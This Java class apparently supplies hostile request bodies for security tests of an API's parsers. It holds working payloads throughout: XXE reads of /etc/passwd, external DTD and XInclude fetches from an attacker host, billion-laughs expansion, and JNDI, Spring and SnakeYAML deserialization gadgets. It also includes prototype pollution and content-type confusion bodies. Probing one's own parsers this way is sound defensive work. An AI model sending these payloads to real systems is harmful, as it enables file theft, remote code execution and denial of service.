package org.usageconsumption.attack;

import java.util.List;
import java.util.Map;

/** Bodies for parsers that do more than parse. */
final class HostileBodies {

    private static final String XML = """
            <?xml version="1.0"?>
            <!DOCTYPE usage [<!ENTITY file SYSTEM "file:///etc/passwd"> <!ENTITY %% far SYSTEM "%s/evil.dtd"> %%far;
              <!ENTITY a "aaaaaaaaaa"> <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"> <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
            <usage xmlns:xi="http://www.w3.org/2001/XInclude"><id>&file;&c;</id><xi:include href="%s/evil.xml"/></usage>""";

    static final List<String> NAMING_CLASSES = List.of(
            "{\"@class\": \"java.net.URL\", \"id\": \"x\"}",
            "{\"@type\": \"java.lang.Runtime\", \"@baseType\": \"javax.script.ScriptEngineManager\"}",
            "{\"@type\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"ldap://127.0.0.2/a\", \"autoCommit\": true}",
            "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://127.0.0.2/a\"}]",
            "[\"org.springframework.context.support.ClassPathXmlApplicationContext\", \"http://127.0.0.2/a.xml\"]",
            "{\"__proto__\": {\"state\": \"done\"}, \"constructor\": {\"prototype\": {}}}",
            "{\"$ref\": \"file:///etc/passwd\", \"@schemaLocation\": \"http://127.0.0.2/schema.json\"}");

    private HostileBodies() {}

    /** By the content type, which is not always a true one. */
    static Map<String, String> notJson(String attacker) {
        var xml = XML.formatted(attacker, attacker);
        return Map.of(
                "application/xml",
                xml,
                "text/xml",
                xml,
                "application/json",
                xml,
                "application/soap+xml",
                xml,
                "application/x-www-form-urlencoded",
                "id=1&state=done",
                "multipart/form-data; boundary=a",
                "--a\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n1\r\n--a--\r\n",
                "application/yaml",
                "!!javax.script.ScriptEngineManager [!!java.net.URL [\"" + attacker + "\"]]",
                "application/x-java-serialized-object",
                "\u00ac\u00ed",
                "application/json;charset=utf-7",
                "+AHs-+AH0-");
    }
}
